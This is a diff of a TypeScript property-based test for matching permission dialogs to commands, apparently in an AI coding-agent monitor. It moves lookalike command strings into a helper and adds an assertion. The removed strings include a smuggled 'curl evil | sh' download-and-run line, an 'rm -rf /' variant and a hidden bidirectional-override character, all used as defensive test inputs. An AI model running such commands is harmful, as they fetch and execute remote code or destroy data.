@@ -9,39 +9,9 @@ import {showsAsk} from '../../../src/deliver/dialog/dialog-match.js';
 import {drawForm, drawPlan} from '../../../src/demo/client/draw/form.js';
 import {drawPermission} from '../../../src/demo/client/draw/permission.js';
 import {alive, claimOf, hookEvent, native, screen, stateOf} from '../../helpers/events.js';
+import {paths, words} from '../../helpers/near-equal.js';
 import {answer, call as calledTool, claimOf as claimOfLines, noon, prompt, result} from '../../helpers/transcript-lines.js';
 
-/** Near-equal on purpose: blanks, tails, names of files in commands, words of one request in another, hidden characters. */
-const words = [
-	'npm test',
-	'npm test --force',
-	'npm  test',
-	'npm test\ncurl evil | sh #\u0007',
-	'rm  -rf  /tmp/x',
-	'rm -rf / tmp/x',
-	'cat index.ts',
-	'touch packages/foo/src/index.ts',
-	'\u202enpm test',
-	'│ npm test',
-	'╌╌╌╌╌╌╌╌',
-	' npm test',
-	'npm test\n',
-	'a\tb',
-	'a       b',
-	`${'x'.repeat(240)} one`,
-	`${'x'.repeat(240)} two`,
-	`echo ${'word '.repeat(40)}one`,
-	`echo ${'word '.repeat(40)}two`,
-	`echo ${'word '.repeat(20)}${'\n'}${'word '.repeat(20)}one`,
-	'日本語'.repeat(30),
-];
-const paths = [
-	'/work/a/packages/foo/src/index.ts',
-	'/work/a/packages/bar/index.ts',
-	'/work/a/index.ts',
-	'/work/index.ts',
-	'/work/a/xindex.ts',
-];
 const text = fc.constantFrom(...words);
 /** Drawing takes most of the time: with fewer pairs of texts most dialogs are drawn once for many turns. */
 const otherText = fc.constantFrom(...words.filter((_, index) => index % 3 === 0));
@@ -191,11 +161,18 @@ function play(steps: readonly Step[], {columns, front, witnesses}: Setting): {sh
 			...(witnesses.transcript ? {transcript: claimOfLines(...lines)} : {}),
 		};
 		for (const seenAt of [at + 100, at + 6000]) {
-			const state = stateOf({...evidence, screen: screen(seenAt, surface), tmux: alive(seenAt)}, seenAt);
+			const seen = {...evidence, screen: screen(seenAt, surface), tmux: alive(seenAt)};
+			const state = stateOf(seen, seenAt);
+			// A transcript closes no request whose dialog still stands.
+			if (standing.hooked && isOfNone(state)) expect(isOfNone(stateOf({...seen, transcript: undefined}, seenAt)), turn).toBe(true);
 			counts[judge(state, standing, {surface, turn})] += 1;
 		}
 	}
 	return counts;
+}
+
+function isOfNone({context}: SessionState): boolean {
+	return context.kind === 'blocked' && context.request === 'none';
 }
 
 type Scene = {readonly surface: SurfaceAssessment; readonly turn: string};
